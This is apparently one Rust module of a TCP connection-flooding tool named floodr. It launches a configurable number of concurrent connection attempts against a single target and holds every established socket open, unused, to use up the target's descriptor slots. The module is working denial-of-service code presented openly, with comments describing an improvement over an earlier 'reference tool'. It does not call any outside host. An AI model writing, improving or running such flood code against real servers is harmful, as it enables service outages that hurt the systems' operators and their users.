//! The flood engine.
//!
//! Launches a configured number of independent connection attempts against a
//! single target and keeps every socket that completes the handshake. Held
//! sockets are never read from, written to, or closed; they exist purely to
//! occupy descriptor slots on the target until the [`FloodOutcome`] is
//! dropped (in the CLI: until the process is killed).
//!
//! Attempts are tokio tasks gated by a semaphore, so at most
//! `config.concurrency` handshakes are in flight at once. The reference tool
//! spawned without a ceiling and could exhaust its own process limits before
//! reaching the requested count; the ceiling is deliberate and configurable.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use tokio::net::TcpStream;
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tracing::{debug, info};

use floodr_common::config::Config;
use floodr_common::network::target::Target;

use crate::network::tcp;

/// Callback fired with the running number of settled attempts.
pub type ProgressFn = Box<dyn Fn(usize) + Send + Sync>;

/// Result of a completed launch loop.
///
/// Owns every established socket; dropping the outcome releases all of them.
pub struct FloodOutcome {
    attempted: usize,
    held: Vec<TcpStream>,
}

impl FloodOutcome {
    /// Number of attempts launched.
    pub fn attempted(&self) -> usize {
        self.attempted
    }

    /// Connections that completed the handshake and are currently held open.
    pub fn established(&self) -> usize {
        self.held.len()
    }

    /// Attempts that failed and were discarded.
    pub fn failed(&self) -> usize {
        self.attempted - self.held.len()
    }
}

/// Launches `config.count` connection attempts against `target` and waits for
/// all of them to settle.
///
/// Per-attempt failures are swallowed; they only show up in the outcome
/// counts. Outcomes may settle in any order.
pub async fn flood(
    target: Target,
    config: &Config,
    progress: Option<ProgressFn>,
) -> anyhow::Result<FloodOutcome> {
    let addr = target.socket_addr();
    let deadline = config.connect_timeout;
    let limiter = Arc::new(Semaphore::new(config.concurrency));
    let settled = Arc::new(AtomicUsize::new(0));
    let on_settled: Option<Arc<dyn Fn(usize) + Send + Sync>> = progress.map(Arc::from);

    info!(
        "flooding {target} with {} attempts ({} at a time)",
        config.count, config.concurrency
    );

    let mut attempts: JoinSet<Option<TcpStream>> = JoinSet::new();
    for _ in 0..config.count {
        let limiter = limiter.clone();
        let settled = settled.clone();
        let on_settled = on_settled.clone();

        attempts.spawn(async move {
            // Closed only when the JoinSet is dropped, which never happens
            // while attempts are still running.
            let _permit = limiter.acquire_owned().await.ok()?;
            let stream = tcp::connect_once(addr, deadline).await;

            let done = settled.fetch_add(1, Ordering::Relaxed) + 1;
            if let Some(callback) = &on_settled {
                callback(done);
            }
            stream
        });
    }

    let mut held: Vec<TcpStream> = Vec::new();
    let mut failed: usize = 0;
    while let Some(joined) = attempts.join_next().await {
        match joined {
            Ok(Some(stream)) => held.push(stream),
            Ok(None) => failed += 1,
            // A panicked attempt counts as failed; the flood keeps going.
            Err(join_err) => {
                debug!("connection attempt aborted: {join_err}");
                failed += 1;
            }
        }
    }

    info!("launch loop done: {} held, {failed} failed", held.len());

    Ok(FloodOutcome {
        attempted: config.count,
        held,
    })
}
